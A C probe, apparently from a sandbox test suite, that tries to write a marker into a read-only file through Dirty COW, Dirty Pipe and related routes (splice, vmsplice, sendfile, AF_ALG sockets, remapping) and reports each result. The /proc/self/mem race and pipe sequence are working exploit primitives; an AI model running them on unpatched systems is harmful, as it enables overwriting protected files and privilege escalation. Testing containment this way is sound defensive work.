/* Tries to write to a file that may only be read, in the ways of Dirty COW, Dirty Pipe and Copy Fail: through pages
 * that pipes, sockets, the kernel's crypto or other mappings hold by reference. Says what each step was answered. */
#include "probe.h"
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <time.h>

#define EVIL "CASEMATE-WAS-HERE"
#define RACE_NS 300000000L
#define NANOSECONDS 1000000000L

static char *mapped;
static size_t length;
static atomic_bool over;

static void pipes(int file) {
    int ends[2], other[2];
    loff_t at = 0;
    off_t from = 0;
    struct iovec piece = {.iov_base = mapped, .iov_len = 64};
    if (pipe(ends) < 0 || pipe(other) < 0)
        exit(1);
    attempt("splice to pipe", splice(file, &at, ends[1], NULL, 1, 0));
    attempt("splice to file", splice(ends[0], NULL, file, &at, 1, 0));
    attempt("vmsplice", vmsplice(ends[1], &piece, 1, 0));
    attempt("vmsplice gift", vmsplice(ends[1], &piece, 1, SPLICE_F_GIFT));
    attempt("tee", tee(ends[0], other[1], 64, 0));
    attempt("sendfile to pipe", sendfile(ends[1], file, &from, 64));
    attempt("copy to pipe", copy_file_range(file, &at, ends[1], NULL, 64, 0));
    if (write(ends[1], EVIL, sizeof EVIL) < 0)
        exit(1);
}

static void sockets(int file) {
    int pair[2], one = 1;
    off_t from = 0;
    struct iovec piece = {.iov_base = mapped, .iov_len = 64};
    struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1};
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        exit(1);
    attempt("sendfile to socket", sendfile(pair[0], file, &from, 64));
    attempt("splice to socket", splice(file, NULL, pair[0], NULL, 64, 0));
    attempt("crypto socket", socket(AF_ALG, SOCK_SEQPACKET, 0));
    int tcp = socket(AF_INET, SOCK_STREAM, 0);
    attempt("zero copy", setsockopt(tcp, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one));
    if (sendmsg(pair[0], &message, 0) < 0)
        exit(1);
}

static void mappings(const char *path, int file) {
    attempt("open for writing", open(path, O_RDWR));
    attempt("truncate", truncate(path, 0));
    void *shared = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    attempt("shared writable mapping", shared == MAP_FAILED ? -1 : 0);
    void *readable = mmap(NULL, length, PROT_READ, MAP_SHARED, file, 0);
    attempt("make it writable", mprotect(readable, length, PROT_READ | PROT_WRITE));
    attempt("punch a hole", madvise(readable, length, MADV_REMOVE));
    attempt("reopen by descriptor", open("/proc/self/fd/3", O_RDWR));
    attempt("allocate", fallocate(file, 0, 0, 4096));
}

static void *discard(void *unused) {
    (void)unused;
    while (!over)
        madvise(mapped, length, MADV_DONTNEED);
    return NULL;
}

/* Dirty COW: write through /proc/self/mem to a private mapping while its copy is thrown away. */
static void race(void) {
    struct timespec start, now;
    pthread_t thread;
    int memory = open("/proc/self/mem", O_RDWR);
    attempt("open own memory", memory);
    if (memory < 0 || pthread_create(&thread, NULL, discard, NULL) != 0)
        return;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        if (pwrite(memory, EVIL, sizeof EVIL, (off_t)(uintptr_t)mapped) < 0)
            break;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * NANOSECONDS + now.tv_nsec - start.tv_nsec < RACE_NS);
    over = true;
    pthread_join(thread, NULL);
    say("race", "over");
}

int main(int argc, char **argv) {
    struct stat status;
    int file = argc == 2 ? open(argv[1], O_RDONLY) : -1;
    if (file != 3 || fstat(file, &status) < 0)
        return 1;
    length = (size_t)status.st_size;
    mapped = mmap(NULL, length, PROT_READ, MAP_PRIVATE, file, 0);
    if (mapped == MAP_FAILED)
        return 1;
    pipes(file);
    sockets(file);
    mappings(argv[1], file);
    race();
    return 0;
}
